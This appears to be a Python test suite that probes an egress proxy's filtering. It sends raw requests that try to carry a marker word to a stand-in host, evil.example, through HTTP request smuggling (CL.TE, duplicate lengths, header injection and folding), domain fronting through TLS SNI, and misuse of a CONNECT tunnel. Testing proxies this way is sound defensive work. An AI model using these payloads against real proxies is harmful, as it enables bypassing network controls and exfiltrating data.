"""Attempts to say two things at once to the proxy: one that is allowed, and one that is not.

The word goes where only a proxy that passes on what it did not read would carry it. Registered by
`proxied.py`.
"""

from __future__ import annotations

from .asking import ask, fetch, get, hello, ignored, proxied, tunnel, verdict
from .driver import Facts
from .words import word

GOOD = "good.example"
ALONE = "the proxy: one request a connection, written anew"


def good(more: str = "", method: str = "GET") -> str:
    """The head of an allowed request, up to its last header."""
    return f"{method} http://{GOOD}/ HTTP/1.1\r\nHost: {GOOD}\r\n{more}"


@proxied
def name_another_host_in_the_header(facts: Facts) -> str:
    return fetch(facts, f"http://{GOOD}/{word(facts).decode()}", "evil.example")


@proxied
def send_two_host_headers(facts: Facts) -> str:
    text = word(facts).decode()
    return verdict(ask(facts, get(f"http://{GOOD}/{text}", GOOD, "Host: evil.example\r\n")))


@proxied
def send_a_second_request_at_once(facts: Facts) -> str:
    second = get(f"http://evil.example/{word(facts).decode()}", "evil.example")
    return ignored(ask(facts, get(f"http://{GOOD}/", GOOD) + second), ALONE)


@proxied
def send_a_second_request_later(facts: Facts) -> str:
    first = get(f"http://{GOOD}/", GOOD, "Connection: keep-alive\r\n")
    second = get(f"http://evil.example/{word(facts).decode()}", "evil.example")
    return ignored(ask(facts, first, second), ALONE)


@proxied
def send_more_than_the_length(facts: Facts) -> str:
    second = f"GET http://evil.example/{word(facts).decode()} HTTP/1.1\r\n\r\n"
    said = ask(facts, (good("Content-Length: 2\r\n\r\nab", "POST") + second).encode())
    return ignored(said, ALONE)


@proxied
def upgrade_the_connection(facts: Facts) -> str:
    head = good("Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n").encode()
    return ignored(ask(facts, head, word(facts)), ALONE)


@proxied
def send_a_length_and_chunks(facts: Facts) -> str:
    """CL.TE: whoever believes the length sees a body, who believes the chunks a second request."""
    body = f"0\r\n\r\nGET http://evil.example/{word(facts).decode()} HTTP/1.1\r\n\r\n"
    more = f"Content-Length: {len(body)}\r\nTransfer-Encoding: chunked\r\n\r\n{body}"
    return verdict(ask(facts, good(more, "POST").encode()))


@proxied
def send_two_lengths(facts: Facts) -> str:
    body = f"GET http://evil.example/{word(facts).decode()} HTTP/1.1\r\n\r\n"
    more = f"Content-Length: 0\r\nContent-Length: {len(body)}\r\n\r\n{body}"
    return verdict(ask(facts, good(more, "POST").encode()))


@proxied
def send_an_odd_coding(facts: Facts) -> str:
    body = f"0\r\n\r\nGET http://evil.example/{word(facts).decode()} HTTP/1.1\r\n\r\n"
    return verdict(ask(facts, good(f"Transfer-Encoding: xchunked\r\n\r\n{body}", "POST").encode()))


@proxied
def hide_a_line_in_the_target(facts: Facts) -> str:
    """A bare line feed: to some the end of the line, to others a part of the path."""
    text = word(facts).decode()
    first = f"GET http://{GOOD}/ HTTP/1.1\nX-Smuggled: {text}\r\n"
    return verdict(ask(facts, f"{first}Host: {GOOD}\r\n\r\n".encode()))


@proxied
def hide_a_line_in_a_header(facts: Facts) -> str:
    text = word(facts).decode()
    return verdict(ask(facts, good(f"X: a\rSmuggled: {text}\r\n\r\n").encode()))


@proxied
def fold_a_header(facts: Facts) -> str:
    return verdict(ask(facts, good(f"X: a\r\n {word(facts).decode()}\r\n\r\n").encode()))


@proxied
def put_a_zero_byte_into_a_header(facts: Facts) -> str:
    return verdict(ask(facts, good(f"X: a\0{word(facts).decode()}\r\n\r\n").encode()))


@proxied
def send_many_headers(facts: Facts) -> str:
    text = word(facts).decode()
    return verdict(ask(facts, good("X: y\r\n" * 500 + f"X: {text}\r\n\r\n").encode()))


@proxied
def send_a_long_header(facts: Facts) -> str:
    text = word(facts).decode()
    return verdict(ask(facts, good(f"X: {'y' * 100_000}{text}\r\n\r\n").encode()))


@proxied
def ask_for_another_site_of_the_front(facts: Facts) -> str:
    """Domain fronting: a tunnel to an allowed host, a TLS hello for another that it also serves."""
    return tunnel(facts, f"{GOOD}:443", hello(f"{word(facts).decode()}.evil.example"))


@proxied
def ask_for_another_site_in_pieces(facts: Facts) -> str:
    """The same, the hello cut into records of 20 bytes."""
    whole = hello(f"{word(facts).decode()}.evil.example")
    body = whole[5:]
    cut = [body[at : at + 20] for at in range(0, len(body), 20)]
    records = b"".join(whole[:3] + len(piece).to_bytes(2, "big") + piece for piece in cut)
    return tunnel(facts, f"{GOOD}:443", records + word(facts))


@proxied
def speak_plainly_where_tls_belongs(facts: Facts) -> str:
    request = get(f"http://evil.example/{word(facts).decode()}", "evil.example")
    return tunnel(facts, f"{GOOD}:443", request)


@proxied
def send_a_hello_without_sense(facts: Facts) -> str:
    """It begins as a TLS handshake and is none."""
    return tunnel(facts, f"{GOOD}:443", b"\x16\x03\x01\x00\x20" + word(facts) + bytes(40))
